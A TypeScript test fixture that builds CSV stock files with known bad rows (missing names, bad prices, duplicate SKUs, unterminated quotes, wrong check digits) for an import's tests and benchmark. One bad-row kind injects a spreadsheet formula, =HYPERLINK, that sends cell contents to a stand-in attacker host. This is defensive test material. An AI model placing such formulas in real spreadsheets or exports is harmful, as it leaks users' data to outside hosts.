// A stock file as a store would export it from a spreadsheet: `size` rows with 35 bad rows
// of every kind the import must catch, at known spreadsheet row numbers (header = row 1).
// Used by the import's API test, its Chromium test and its benchmark.
import { gs1CheckDigit } from '../../shared/barcode.js';

export type BadKind =
  'missing name' | 'bad price' | 'duplicate sku' | 'unterminated quote' | 'bad check digit' | 'formula';

export interface StockFile {
  text: string;
  /** Spreadsheet row number -> what is wrong with it. */
  bad: Map<number, BadKind>;
  /** Rows that should be written. */
  good: number;
  /** Categories the file names. */
  categories: string[];
}

export const FIXTURE_HEADER = 'Item,SKU,Barcode,Category,Qty,Unit price,Threshold,Description';
const CATEGORIES = ['Tools', 'Garden', 'Kitchen'];
const KINDS: BadKind[] = [
  'missing name',
  'bad price',
  'duplicate sku',
  'unterminated quote',
  'bad check digit',
  'formula',
];

export const fixtureSku = (i: number) => `SKU-${String(i).padStart(6, '0')}`;
/** A valid EAN-13 per row index. */
export function fixtureEan(i: number): string {
  const body = `20${String(i).padStart(10, '0')}`;
  return body + gs1CheckDigit(body);
}

/**
 * Data row i (0-based) is spreadsheet row i + 2. Bad rows are spread through the file,
 * none in the first 20 rows (so a duplicate SKU has an earlier row to repeat).
 */
export function stockFile(
  size: number,
  options: { badRows?: number; skuPrefix?: string; barcodeFrom?: number } = {},
): StockFile {
  const badCount = options.badRows ?? 35;
  const sku = (i: number) => (options.skuPrefix ?? '') + fixtureSku(i);
  const step = Math.floor((size - 20) / Math.max(1, badCount));
  const badAt = new Map<number, BadKind>();
  for (let b = 0; b < badCount; b++) badAt.set(20 + b * step, KINDS[b % KINDS.length]!);
  const lines = [FIXTURE_HEADER];
  const bad = new Map<number, BadKind>();
  for (let i = 0; i < size; i++) {
    const kind = badAt.get(i);
    const category = CATEGORIES[i % CATEGORIES.length]!;
    const barcode = i % 2 === 0 ? fixtureEan(i + (options.barcodeFrom ?? 0)) : '';
    const cells = [
      `Widget ${i}`,
      sku(i),
      barcode,
      category,
      String(i % 50),
      `${(i % 100) + 0.5}`,
      '5',
      `Part ${i}, boxed`,
    ];
    if (kind === 'missing name') cells[0] = '';
    if (kind === 'bad price') cells[5] = 'twelve';
    if (kind === 'duplicate sku') cells[1] = sku(i - 7);
    if (kind === 'bad check digit') cells[2] = fixtureEan(i).slice(0, 12) + ((Number(fixtureEan(i).at(-1)) + 1) % 10);
    if (kind === 'formula') cells[0] = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const quoted = cells.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c));
    // A quote opened and never closed: the whole line is one bad row.
    if (kind === 'unterminated quote') quoted[7] = `"Part ${i}, boxed`;
    lines.push(quoted.join(','));
    if (kind) bad.set(i + 2, kind);
  }
  return { text: lines.join('\r\n') + '\r\n', bad, good: size - bad.size, categories: CATEGORIES };
}
